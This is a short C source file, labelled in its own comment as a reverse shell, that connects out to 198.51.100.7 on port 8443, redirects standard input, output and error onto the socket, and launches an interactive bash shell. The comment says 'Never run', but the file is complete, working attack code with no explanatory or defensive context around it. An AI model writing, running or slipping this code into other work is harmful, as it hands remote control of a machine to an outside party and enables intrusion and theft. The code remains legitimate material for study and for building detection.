/* A reverse shell: connect out and run a shell on the connection. Never run. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void) {
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(8443)};
	inet_pton(AF_INET, "198.51.100.7", &a.sin_addr);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(s, (struct sockaddr *)&a, sizeof a) != 0)
		return 1;
	dup2(s, 0); dup2(s, 1); dup2(s, 2);
	char *argv[] = {"/bin/bash", "-i", 0};
	execve(argv[0], argv, 0);
	return 0;
}
